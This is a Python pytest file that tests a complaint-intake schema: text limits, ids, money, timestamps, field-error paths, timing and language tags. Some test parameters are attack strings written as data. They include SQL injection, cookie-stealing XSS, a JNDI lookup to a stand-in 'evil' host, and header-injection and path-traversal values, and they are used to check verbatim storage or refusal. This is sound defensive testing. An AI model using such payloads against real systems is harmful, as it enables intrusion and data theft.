"""What a complaint may say and what it may not smuggle in: value types and the intake, field by field."""

from __future__ import annotations

import json
from datetime import UTC, datetime, timedelta
from typing import Any
from zoneinfo import ZoneInfo

import pytest
from pydantic import BaseModel, TypeAdapter, ValidationError

from domain.errors import FieldError, field_errors, summary, validate_json
from domain.intake import CLOCK_SKEW, ComplaintIntake, IntakeTimingError, check_timing
from domain.values import MAX_LINE_CHARS, MAX_TEXT_BYTES, Actor, ComplaintId, Line, Money, Text, Timestamp
from tests.unit.samples import INTAKE as SAMPLE

INTAKE = TypeAdapter(ComplaintIntake)

VALID: dict[str, Any] = SAMPLE


def with_(**changes: Any) -> dict[str, Any]:
    return {**VALID, **changes}


def without(field: str) -> dict[str, Any]:
    return {k: v for k, v in VALID.items() if k != field}


def refusal(data: dict[str, Any] | bytes) -> dict[str, str]:
    """The field errors a JSON intake is refused with, as {dotted field: reason}."""
    raw = data if isinstance(data, bytes) else json.dumps(data).encode()
    with pytest.raises(ValidationError) as error:
        validate_json(INTAKE, raw)
    return {e.field: e.reason for e in field_errors(error.value)}


def refused(adapter: TypeAdapter[Any], value: Any) -> str:
    """The one reason a bare value is refused with."""
    with pytest.raises(ValidationError) as error:
        adapter.validate_python(value)
    [only] = field_errors(error.value)
    return only.reason


TEXT, LINE = TypeAdapter(Text), TypeAdapter(Line)
TIMESTAMP, COMPLAINT_ID, ACTOR = TypeAdapter(Timestamp), TypeAdapter(ComplaintId), TypeAdapter(Actor)


# --- constrained text -------------------------------------------------------------------------------------


@pytest.mark.parametrize("text", [
    "'; DROP TABLE complaint_events; --",
    "Robert'); DELETE FROM complaints WHERE ('1'='1",
    "1 OR 1=1 UNION SELECT password FROM users",
    "<script>alert(document.cookie)</script>",
    '<img src=x onerror="alert(1)"> &amp; &lt;b&gt;',
    "{{7*7}} ${jndi:ldap://evil/a} %s%n",
    "  leading and trailing spaces  ",
    "Pesanan belum datang 🙁 — ご注文 — طلب",
])
def test_text_is_kept_verbatim_even_when_it_looks_like_an_attack(text: str) -> None:
    assert TEXT.validate_python(text) == text
    assert validate_json(INTAKE, json.dumps(with_(description=text))).description == text


def test_a_one_line_field_keeps_markup_verbatim_too() -> None:
    assert LINE.validate_python("<b>Late</b> delivery'--") == "<b>Late</b> delivery'--"


@pytest.mark.parametrize("bad", ["\x00", "\x07", "\x08", "\x0b", "\x0c", "\x1b[31m", "\x7f", "\x85", "\x9f"])
def test_control_characters_are_refused_naming_the_character_and_where(bad: str) -> None:
    reason = refused(TEXT, f"before{bad}after")
    assert reason == f"contains a control character (U+{ord(bad[0]):04X}) at character 6"


def test_multi_line_text_may_hold_tabs_and_newlines() -> None:
    text = "line one\nline two\r\n\ttabbed"
    assert TEXT.validate_python(text) == text


@pytest.mark.parametrize("whitespace", ["\n", "\t", "\r"])
def test_a_one_line_field_refuses_even_tabs_and_newlines(whitespace: str) -> None:
    assert refused(LINE, f"Siti{whitespace}Rahma").startswith("contains a control character")


def test_a_name_may_not_span_lines_though_a_description_may() -> None:
    reasons = refusal(with_(customer={"id": "c-1", "name": "Siti\nRahma"}))
    assert reasons == {"customer.name": "contains a control character (U+000A) at character 4"}
    validate_json(INTAKE, json.dumps(with_(description="line one\nline two")))


def test_a_lone_surrogate_is_refused() -> None:
    with pytest.raises(ValidationError):
        TEXT.validate_python("Pe\ud800sanan")
    with pytest.raises(ValidationError):
        LINE.validate_python("\udfff")


def test_a_lone_surrogate_escape_in_json_is_refused_naming_its_field() -> None:
    raw = json.dumps(VALID).replace("Pesanan", "Pe\\ud800sanan").encode()
    assert list(refusal(raw)) == ["description"]


def test_a_surrogate_pair_is_an_ordinary_character() -> None:
    raw = json.dumps(with_(description="sad \U0001F641"), ensure_ascii=True).encode()  # "\ud83d\ude41"
    assert validate_json(INTAKE, raw).description == "sad \U0001F641"


@pytest.mark.parametrize("blank", ["", " ", "   ", "\n\t", "\r\n", "\u00a0", "\u3000"])
def test_blank_text_is_refused(blank: str) -> None:
    with pytest.raises(ValidationError):
        TEXT.validate_python(blank)
    assert "description" in refusal(with_(description=blank))


def test_text_is_bounded_at_twenty_thousand_bytes_of_utf8_not_characters() -> None:
    assert MAX_TEXT_BYTES == 20_000
    assert TEXT.validate_python("x" * 20_000) == "x" * 20_000
    assert TEXT.validate_python("é" * 10_000) == "é" * 10_000  # 10,000 characters, 20,000 bytes
    assert refused(TEXT, "é" * 10_000 + "x") == "is 20001 bytes of UTF-8; the limit is 20000"
    assert refused(TEXT, "🙁" * 5_001) == "is 20004 bytes of UTF-8; the limit is 20000"  # only 5,001 characters


def test_a_one_line_field_is_bounded_in_characters() -> None:
    assert LINE.validate_python("x" * MAX_LINE_CHARS)
    assert refused(LINE, "x" * (MAX_LINE_CHARS + 1)) == "String should have at most 200 characters"


def test_text_must_be_a_string_not_something_that_could_become_one() -> None:
    for value in (42, 4.2, True, None, ["a"], b"bytes"):
        with pytest.raises(ValidationError):
            TEXT.validate_python(value)


# --- ids ----------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("good", ["C-1001", "8812", "a", "ORD_2026.11-24", "x" * 64])
def test_an_id_is_a_short_key_of_letters_digits_dots_dashes_and_underscores(good: str) -> None:
    assert COMPLAINT_ID.validate_python(good) == good


@pytest.mark.parametrize("bad", ["", "has spaces", "-leading-dash", ".hidden", "x" * 65, "C/1001", "C-1001\n",
                                 "ü-umlaut", "C-1'; --"])
def test_an_id_that_is_not_a_plain_key_is_refused(bad: str) -> None:
    with pytest.raises(ValidationError):
        COMPLAINT_ID.validate_python(bad)


def test_an_id_given_as_a_number_is_refused_not_converted() -> None:
    assert "complaint_id" in refusal(with_(complaint_id=1001))


@pytest.mark.parametrize("actor", ["system", "customer", "agent:ana", "supervisor:budi", "agent:ana@example.com"])
def test_an_actor_is_a_role_with_an_optional_name(actor: str) -> None:
    assert ACTOR.validate_python(actor) == actor


@pytest.mark.parametrize("actor", ["Agent:ana", "agent:", "agent:ana smith", ":ana", "agent:ana:again", ""])
def test_an_actor_that_is_not_a_role_is_refused(actor: str) -> None:
    with pytest.raises(ValidationError):
        ACTOR.validate_python(actor)


# --- money --------------------------------------------------------------------------------------------------


def test_money_is_integer_minor_units_with_a_currency() -> None:
    money = Money.model_validate_json('{"amount_minor": 45000000, "currency": "IDR"}')
    assert money == Money(amount_minor=45_000_000, currency="IDR")
    assert type(money.amount_minor) is int


@pytest.mark.parametrize("amount", [-1, -100, 12.5, 1.0, 0.1, True, False, "100", None, 10**12 + 1])
def test_money_refuses_negatives_floats_booleans_and_strings(amount: Any) -> None:
    with pytest.raises(ValidationError) as error:
        Money.model_validate_json(json.dumps({"amount_minor": amount, "currency": "IDR"}))
    assert [e.field for e in field_errors(error.value)] == ["amount_minor"]
    with pytest.raises(ValidationError):
        Money(amount_minor=amount, currency="IDR")


def test_money_may_be_zero_and_up_to_a_trillion_minor_units() -> None:
    assert Money(amount_minor=0, currency="GBP").amount_minor == 0
    assert Money(amount_minor=10**12, currency="GBP").amount_minor == 10**12


@pytest.mark.parametrize("currency", ["idr", "RUPIAH", "RP", "", "US$", 840])
def test_money_needs_an_iso_4217_currency_code(currency: Any) -> None:
    with pytest.raises(ValidationError):
        Money.model_validate({"amount_minor": 100, "currency": currency})


def test_money_refuses_fields_it_does_not_know() -> None:
    with pytest.raises(ValidationError):
        Money.model_validate({"amount_minor": 100, "currency": "IDR", "amount": 1.0})


def test_money_reads_in_its_currency() -> None:
    assert str(Money(amount_minor=123_456, currency="GBP")) == "GBP 1,234.56"
    assert str(Money(amount_minor=5, currency="USD")) == "USD 0.05"
    assert str(Money(amount_minor=4_500, currency="JPY")) == "JPY 4,500"


# --- timestamps ---------------------------------------------------------------------------------------------


def test_a_timestamp_is_normalised_to_utc() -> None:
    moment = TIMESTAMP.validate_python("2026-11-10T09:30:00+07:00")
    assert moment == datetime(2026, 11, 10, 2, 30, tzinfo=UTC) and moment.tzinfo is UTC
    jakarta = datetime(2026, 11, 10, 9, 30, tzinfo=ZoneInfo("Asia/Jakarta"))
    assert TIMESTAMP.validate_python(jakarta) == moment


@pytest.mark.parametrize("naive", ["2026-11-10T09:30:00", "2026-11-10",
                                   datetime(2026, 11, 10, 9, 30)])  # noqa: DTZ001 - refused
def test_a_naive_timestamp_is_refused(naive: Any) -> None:
    assert refused(TIMESTAMP, naive) == "must carry a timezone offset"


@pytest.mark.parametrize("number", [1_795_556_763, 1_795_556_763.5, True])
def test_a_number_is_not_read_as_seconds_since_1970(number: Any) -> None:
    assert refused(TIMESTAMP, number).startswith("must be an ISO 8601 date-time with an offset")


def test_a_timestamp_lies_between_2000_and_2100_as_an_instant() -> None:
    assert TIMESTAMP.validate_python("2000-01-01T00:00:00Z") == datetime(2000, 1, 1, tzinfo=UTC)
    assert TIMESTAMP.validate_python("2099-12-31T23:59:59.999999Z").year == 2099
    for outside in ("1999-12-31T23:59:59.999999Z", "2100-01-01T00:00:00Z", "1970-01-01T00:00:00Z",
                    "2000-01-01T06:00:00+07:00",  # 1999-12-31 23:00 UTC
                    "2099-12-31T20:00:00-05:00"):  # 2100-01-01 01:00 UTC
        assert refused(TIMESTAMP, outside) == "must lie between 2000-01-01 and 2100-01-01"


# --- the intake ---------------------------------------------------------------------------------------------


def test_a_well_formed_complaint_is_accepted_as_sent() -> None:
    intake = validate_json(INTAKE, json.dumps(VALID))
    assert intake.complaint_id == "C-1001" and intake.customer.id == "cust-4471"
    assert intake.subject.value == Money(amount_minor=45_000_000, currency="IDR")
    assert intake.occurred_at == datetime(2026, 11, 10, 2, 30, tzinfo=UTC)
    assert intake.received_at is None


@pytest.mark.parametrize("missing", ["complaint_id", "customer", "contact", "channel", "subject", "description",
                                     "severity", "jurisdiction", "occurred_at"])
def test_each_missing_field_is_named(missing: str) -> None:
    assert refusal(without(missing)) == {missing: "Field required"}


def test_received_at_is_optional() -> None:
    assert validate_json(INTAKE, json.dumps(without("received_at"))).received_at is None


@pytest.mark.parametrize(("field", "value"), [
    ("channel", "fax"), ("channel", "Email"), ("channel", None),
    ("severity", 3), ("severity", "urgent"),
    ("jurisdiction", "Atlantis"), ("jurisdiction", "id"), ("jurisdiction", "XX"), ("jurisdiction", 62),
    ("description", ""), ("description", 42),
    ("complaint_id", "has spaces"), ("complaint_id", 42),
    ("occurred_at", 1_795_556_763), ("occurred_at", "2026-11-10T09:30:00"), ("occurred_at", "1999-12-31T23:59:59Z"),
    ("occurred_at", "yesterday"),
    ("customer", "Siti"), ("contact", []), ("subject", None),
])
def test_each_wrong_field_is_named_alone(field: str, value: Any) -> None:
    assert list(refusal(with_(**{field: value}))) == [field]


def test_an_extra_field_is_refused_by_name() -> None:
    assert refusal(with_(priority="urgent")) == {"priority": "Extra inputs are not permitted"}


def test_an_extra_nested_field_is_refused_by_its_dotted_path() -> None:
    reasons = refusal(with_(customer={"id": "c-1", "name": "Siti", "email": "s@example.com"}))
    assert reasons == {"customer.email": "Extra inputs are not permitted"}


def test_several_wrong_fields_are_all_named_at_once() -> None:
    data = without("customer") | {"channel": "fax", "jurisdiction": "XX", "severity": 3, "description": ""}
    assert set(refusal(data)) == {"customer", "channel", "jurisdiction", "severity", "description"}


def test_nested_fields_are_named_by_dotted_paths() -> None:
    data = with_(contact={"email": "not an email"},
                 subject={"kind": "order", "title": "Late", "value": {"amount_minor": 1.5, "currency": "idr"}})
    assert set(refusal(data)) == {"contact.email", "subject.value.amount_minor", "subject.value.currency"}


def test_a_contact_needs_at_least_one_way_to_reach_the_customer() -> None:
    assert refusal(with_(contact={})) == {"contact": "give at least one of email, phone or handle"}


def test_received_before_it_happened_is_refused_on_received_at() -> None:
    assert refusal(with_(received_at="2026-11-01T00:00:00Z")) == {"received_at": "is before occurred_at"}


def test_the_refusal_never_echoes_the_input() -> None:
    secret = "Siti\x07Rahmawati"
    data = with_(customer={"id": "c-1", "name": secret}, description="\x00" + "private", priority="secret-value")
    text = summary([FieldError(field=f, reason=r) for f, r in refusal(data).items()])
    assert "Rahmawati" not in text and "private" not in text and "secret-value" not in text


def test_a_payload_that_is_not_an_object_is_refused_as_a_whole() -> None:
    assert refusal(b'["not", "a", "complaint"]') == {"(input)": "Input should be an object"}


# --- field_errors -------------------------------------------------------------------------------------------


class Start(BaseModel):
    intake: ComplaintIntake
    tags: list[Line] = []


def test_field_errors_join_the_location_with_dots_including_list_indexes() -> None:
    with pytest.raises(ValidationError) as error:
        Start.model_validate({"intake": with_(contact={"email": "nope"}), "tags": ["ok", "bad\nline"]})
    assert [e.field for e in field_errors(error.value)] == ["intake.contact.email", "tags.1"]


def test_field_errors_can_leave_out_a_leading_root() -> None:
    with pytest.raises(ValidationError) as error:
        Start.model_validate({"intake": with_(contact={"email": "nope"})})
    assert [e.field for e in field_errors(error.value, root="intake")] == ["contact.email"]
    assert [e.field for e in field_errors(error.value, root="other")] == ["intake.contact.email"]


def test_field_errors_strip_pydantics_value_error_prefix() -> None:
    with pytest.raises(ValidationError) as error:
        ComplaintIntake.model_validate(with_(received_at="2026-11-01T00:00:00Z"))
    [only] = field_errors(error.value)
    assert str(only) == "received_at: is before occurred_at"


# --- timing against a clock ---------------------------------------------------------------------------------

OCCURRED = datetime(2026, 11, 10, 2, 30, tzinfo=UTC)


def timing(intake: ComplaintIntake, now: datetime) -> list[tuple[str, str]]:
    problems = check_timing(intake, now)
    assert all(isinstance(p, IntakeTimingError) and str(p) == f"{p.field}: {p.reason}" for p in problems)
    return [(p.field, p.reason) for p in problems]


def test_a_complaint_about_the_recent_past_fits_the_clock() -> None:
    intake = ComplaintIntake.model_validate(with_(received_at="2026-11-11T08:00:00Z"))
    assert timing(intake, OCCURRED + timedelta(days=2)) == []


def test_a_complaint_about_the_future_is_refused_beyond_a_little_clock_skew() -> None:
    intake = ComplaintIntake.model_validate(VALID)
    assert timing(intake, OCCURRED - CLOCK_SKEW) == []
    assert timing(intake, OCCURRED - CLOCK_SKEW - timedelta(seconds=1)) == [("occurred_at", "is in the future")]


def test_a_receipt_in_the_future_is_refused() -> None:
    intake = ComplaintIntake.model_validate(with_(received_at="2026-11-12T00:00:00Z"))
    assert timing(intake, datetime(2026, 11, 11, tzinfo=UTC)) == [("received_at", "is in the future")]


def test_a_matter_more_than_six_years_old_is_too_old() -> None:
    intake = ComplaintIntake.model_validate(VALID)
    assert timing(intake, OCCURRED + timedelta(days=6 * 366)) == []
    assert timing(intake, OCCURRED + timedelta(days=6 * 366, seconds=1)) == [
        ("occurred_at", "is more than six years ago")]


def test_a_complaint_received_more_than_a_year_ago_is_too_old_to_enter() -> None:
    intake = ComplaintIntake.model_validate(with_(received_at="2026-11-11T00:00:00Z"))
    received = datetime(2026, 11, 11, tzinfo=UTC)
    assert timing(intake, received + timedelta(days=366)) == []
    assert timing(intake, received + timedelta(days=367)) == [("received_at", "is more than a year ago")]


def test_the_static_summary_names_the_case_without_personal_data() -> None:
    from domain.summary import static_summary

    text = static_summary(ComplaintIntake.model_validate(VALID))
    assert text == "Late delivery · order 8812 · social · high · ID · C-1001"
    assert "Siti" not in text and "@" not in text


@pytest.mark.parametrize("language", ["english please", "id_ID", "x", "en-" + "A" * 20, "id\nSubject: forged",
                                      "../../etc", "en-GB-oxendict-extra", 42])
def test_a_language_that_is_not_a_bcp47_tag_is_refused_by_name(language: Any) -> None:
    """The language picks template folders: anything but a plain tag (a path, a header, a giant) is refused."""
    with pytest.raises(ValidationError) as refusal:
        ComplaintIntake.model_validate({**SAMPLE, "language": language})
    assert [e.field for e in field_errors(refusal.value)] == ["language"]


@pytest.mark.parametrize(("language", "jurisdiction", "answered_in"),
                         [(None, "ID", "id"), (None, "GB", "en"), (None, "US", "en"), (None, "FR", "en"),
                          ("en-GB", "ID", "en-GB"), ("id", "GB", "id")])
def test_the_customer_is_answered_in_their_language_or_the_jurisdictions(
        language: str | None, jurisdiction: str, answered_in: str) -> None:
    intake = ComplaintIntake.model_validate({**SAMPLE, "language": language, "jurisdiction": jurisdiction})
    assert intake.answer_in == answered_in
